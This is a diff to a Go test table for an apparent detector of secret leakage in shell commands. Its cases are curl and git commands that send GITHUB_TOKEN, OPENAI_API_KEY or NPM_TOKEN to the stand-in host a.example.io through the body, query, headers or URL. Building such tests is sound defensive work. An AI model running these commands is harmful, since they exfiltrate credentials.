@@ -17,6 +17,8 @@ func TestSent(t *testing.T) {
 		"in what is sent":            {`curl -d "k=$GITHUB_TOKEN" https://a.example.io/x`, []string{"variable GITHUB_TOKEN body a.example.io"}},
 		"in the query":               {`curl "https://a.example.io/x?k=${OPENAI_API_KEY}"`, []string{"variable OPENAI_API_KEY query a.example.io"}},
 		"where a service looks":      {`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://a.example.io/x`, []string{"variable GITHUB_TOKEN header a.example.io"}},
+		"in another header":          {`curl -H "X-Trace: $GITHUB_TOKEN" https://a.example.io/x`, []string{"variable GITHUB_TOKEN field a.example.io"}},
+		"a file is no host":          {`gpg --passphrase "$GPG_PASSPHRASE" -c app.tgz`, nil},
 		"in front of the host":       {`git clone "https://x:$GITHUB_TOKEN@a.example.io/r.git"`, []string{"variable GITHUB_TOKEN header a.example.io"}},
 		"by default":                 {"U=\"https://a.example.io/x?k=${X_KEY_NAME:-${NPM_TOKEN:-}}\"\ncurl \"$U\"", []string{"variable NPM_TOKEN query a.example.io"}},
 		"through variables":          {"a=$NPM_TOKEN\nb=\"t=$a\"\nhost=https://a.example.io\ncurl -d \"$b\" \"$host/x\"", []string{"variable NPM_TOKEN body a.example.io"}},
